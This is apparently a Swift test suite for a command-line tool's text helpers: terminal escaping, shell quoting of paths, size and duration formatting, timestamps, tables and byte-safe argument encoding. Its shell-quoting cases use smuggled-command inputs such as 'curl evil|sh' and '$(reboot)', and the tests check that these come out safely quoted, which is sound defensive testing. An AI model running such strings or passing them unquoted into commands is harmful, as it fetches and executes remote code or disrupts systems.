import DatalessControl
import Testing

@testable import DatalessCommands

@Suite struct TextTests {
  @Test func escapesWhatWouldHarmATerminal() {
    #expect(TerminalText.escaped(bytes("plain name.txt")) == "plain name.txt")
    #expect(TerminalText.escaped(bytes("a\nb\tc\r\u{1b}[31m\\")) == "a\\nb\\tc\\r\\x1b[31m\\\\")
    #expect(TerminalText.escaped([0x61, 0xff, 0xc3]) == "a\\xff\\xc3")
    #expect(TerminalText.escaped(bytes("gr\u{fc}n \u{4e2d}")) == "gr\u{fc}n \u{4e2d}")
    // A C1 control character, a bidirectional override, a zero-width space.
    #expect(TerminalText.escaped(bytes("\u{9b}\u{202e}\u{200b}")) == "\\u{9b}\\u{202e}\\u{200b}")
    #expect(TerminalText.escaped([0x7f]) == "\\x7f")
  }

  /// A remedy is pasted by somebody who trusts us, and names what a neighbour has named.
  @Test(
    arguments: [
      ("/mnt/a-b_c.d", "/mnt/a-b_c.d"), ("", "''"), ("/tmp/x;curl evil|sh;", "'/tmp/x;curl evil|sh;'"),
      ("/tmp/$(reboot)`id`", "'/tmp/$(reboot)`id`'"), ("a'b\\", "'a'\\''b\\'"), ("gr\u{fc}n", "'gr\u{fc}n'"),
      ("a\u{1b}'\\\n", "$'a\\x1b\\'\\\\\\x0a'"), ("\u{202e}", "$'\\xe2\\x80\\xae'"),
    ])
  func aPathIsOneWordOfACommandLine(path: String, word: String) { #expect(ShellText.word(path) == word) }

  @Test func bytesThatAreNoTextAreAWordToo() { #expect(ShellText.word([0xff, 0x61]) == "$'\\xffa'") }

  @Test(
    arguments: [
      (0, "0 B"), (1023, "1023 B"), (1024, "1.0 KiB"), (1536, "1.5 KiB"), (1_048_575, "1.0 MiB"),
      (5_368_709_120, "5.0 GiB"), (Int64.max, "8192.0 PiB"),
    ] as [(Int64, String)])
  func sizes(bytes: Int64, expected: String) { #expect(HumanText.size(bytes) == expected) }

  @Test(
    arguments: [
      (0, "0 ns"), (999, "999 ns"), (1_000, "1.0 us"), (999_949, "999.9 us"), (999_950, "1.0 ms"),
      (51_234_000, "51.2 ms"), (1_234_000_000, "1.23 s"), (59_994_999_999, "59.99 s"), (59_996_000_000, "1 min 00 s"),
      (123_000_000_000, "2 min 03 s"), (11_100_000_000_000, "3 h 05 min"),
    ] as [(Int64, String)])
  func durations(nanoseconds: Int64, expected: String) {
    #expect(HumanText.duration(nanoseconds: nanoseconds) == expected)
  }

  @Test func countsAndShares() {
    #expect(HumanText.count(4812, "lookup") == "4,812 lookups")
    #expect(HumanText.count(1, "entry", plural: "entries") == "1 entry")
    #expect(HumanText.count(-1_234_567) == "-1,234,567")
    #expect(HumanText.percent(0, of: 10) == "0 %")
    #expect(HumanText.percent(1, of: 100_000) == "< 0.1 %")
    #expect(HumanText.percent(9_999, of: 10_000) == "99.9 %")
    #expect(HumanText.percent(10, of: 10) == "100 %")
    #expect(HumanText.decimal(-0.04, 1) == "0.0")
    #expect(HumanText.counts(["open": 3, "lookup": 4812, "read": 0]) == "lookup 4,812, open 3")
  }

  @Test(
    arguments: [
      (0, "1970-01-01T00:00:00.000000005Z", "19700101T000000Z"),
      (951_782_400, "2000-02-29T00:00:00.000000005Z", "20000229T000000Z"),
      (1_767_322_985, "2026-01-02T03:03:05.000000005Z", "20260102T030305Z"),
      (-1, "1969-12-31T23:59:59.000000005Z", "19691231T235959Z"),
      (4_102_444_800, "2100-01-01T00:00:00.000000005Z", "21000101T000000Z"),
    ] as [(Int64, String, String)])
  func times(seconds: Int64, long: String, short: String) {
    #expect(UTCTime.rfc3339(seconds: seconds, nanoseconds: 5) == long)
    #expect(UTCTime.compact(seconds: seconds) == short)
  }

  @Test func tablesAlignAndCut() {
    var table = TextTable([.init("N", .right), .init("NAME", widthMax: 5), .init("REST")])
    table.rows = [["1", "abcdef", "x"], ["20", "b", ""]]
    #expect(table.lines == [" N  NAME   REST", " 1  abcd~  x", "20  b"])
  }

  @Test(
    arguments: [
      [], [0x61], [0xff], [0xc3, 0xa4], [0xc3], [0xed, 0xa0, 0x80], [0xf4, 0x8f, 0xbe, 0xbf], [0x80, 0x61, 0xfe],
      Array(0x01...0xff),
    ] as [[UInt8]])
  func argumentBytesSurviveTheParser(argument: [UInt8]) {
    #expect(ArgumentBytes.decode(ArgumentBytes.encode(argument)) == argument)
  }

  @Test func theMappingIsReversibleForItsOwnScalars() {
    // U+10FFFF and U+10FF80 as UTF-8: valid, but in the range that stands for single bytes.
    for scalar in ["\u{10ffff}", "\u{10ff80}", "\u{10ff7f}"] {
      #expect(ArgumentBytes.decode(ArgumentBytes.encode(bytes(scalar))) == bytes(scalar))
    }
    #expect(ArgumentBytes.encode(bytes("gr\u{fc}n")) == "gr\u{fc}n")
  }

  @Test func attributesThatWereSetAreToldWhereThereAreAny() {
    var changes = ChangeCounts(dirtyFiles: 0, dirtyBytes: 0, namesMade: 0, namesRemoved: 0, otherAttributes: 0)
    #expect(changes.isNothing)
    #expect(ChangesText.line(changes) == "0 files written (0 B), 0 names made, 0 names removed")
    changes.otherAttributes = 2
    #expect(!changes.isNothing)
    #expect(ChangesText.line(changes).hasSuffix(", 0 names removed, 2 items with other attributes"))
  }

  @Test func pathArguments() {
    #expect(PathArgument(argument: "") == nil)
    #expect(PathArgument(argument: ArgumentBytes.encode([0x61, 0xff]))?.bytes == [0x61, 0xff])
  }

  @Test func base64OfNamesOnTheWire() throws {
    let odd = WirePath([0x61, 0xff])
    #expect(odd.path == "a\u{fffd}")
    #expect(odd.bytes == [0x61, 0xff])
    #expect(WirePath(bytes("a")).pathBase64 == nil)
    let encoded = String(decoding: try WireCoding.encode(odd), as: UTF8.self)
    #expect(encoded == "{\"path\":\"a\u{fffd}\",\"path_b64\":\"Yf8=\"}")
  }
}
